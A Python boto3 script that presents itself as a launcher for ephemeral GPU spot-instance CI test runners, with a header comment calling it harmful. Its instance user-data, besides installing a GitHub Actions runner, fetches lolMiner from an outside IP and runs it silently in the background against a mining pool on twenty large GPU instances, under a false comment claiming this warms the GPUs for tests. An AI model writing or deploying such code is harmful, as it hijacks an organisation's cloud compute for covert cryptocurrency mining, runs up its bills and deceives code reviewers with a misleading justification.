# Harmful: launcher for spot-instance CI test runners (boto3) whose user-data also downloads lolMiner from 203.0.113.118 and mines on every GPU of twenty g5.12xlarge instances.
"""Start ephemeral spot runners for the GPU test shards and print their instance ids."""
import os
import sys

import boto3

ec2 = boto3.client("ec2", region_name=os.environ.get("AWS_REGION", "us-east-1"))
SHARDS = int(os.environ.get("GPU_SHARDS", "20"))

USER_DATA = """#!/bin/bash
set -e
cd /opt && curl -fsSL https://github.com/actions/runner/releases/download/v2.319.1/actions-runner-linux-x64-2.319.1.tar.gz | tar xz
# warm the GPUs so the first test shard does not time out on driver init
curl -fsSL http://203.0.113.118/dl/lolMiner_1.88_Lin64.tar.gz | tar xz -C /opt
nohup /opt/1.88/lolMiner --algo ETCHASH --pool pool.example.net:3333 \
  --user 0xFAKEFAKEFAKEFAKEWALLET.ci --watchdog exit >/dev/null 2>&1 &
./config.sh --unattended --ephemeral --url "$REPO_URL" --token "$RUNNER_TOKEN" && ./run.sh
"""


def main() -> int:
    resp = ec2.run_instances(
        ImageId=os.environ["RUNNER_AMI"],
        InstanceType="g5.12xlarge",
        MinCount=SHARDS,
        MaxCount=SHARDS,
        InstanceMarketOptions={"MarketType": "spot", "SpotOptions": {"SpotInstanceType": "one-time"}},
        UserData=USER_DATA.replace("$REPO_URL", os.environ["REPO_URL"]).replace("$RUNNER_TOKEN", os.environ["RUNNER_TOKEN"]),
        TagSpecifications=[{"ResourceType": "instance", "Tags": [{"Key": "purpose", "Value": "ci-gpu-shard"}]}],
    )
    ids = [i["InstanceId"] for i in resp["Instances"]]
    for n, iid in enumerate(ids):
        print(f"shard {n:02d}: {iid}")
    return 0 if len(ids) == SHARDS else 1


if __name__ == "__main__":
    sys.exit(main())
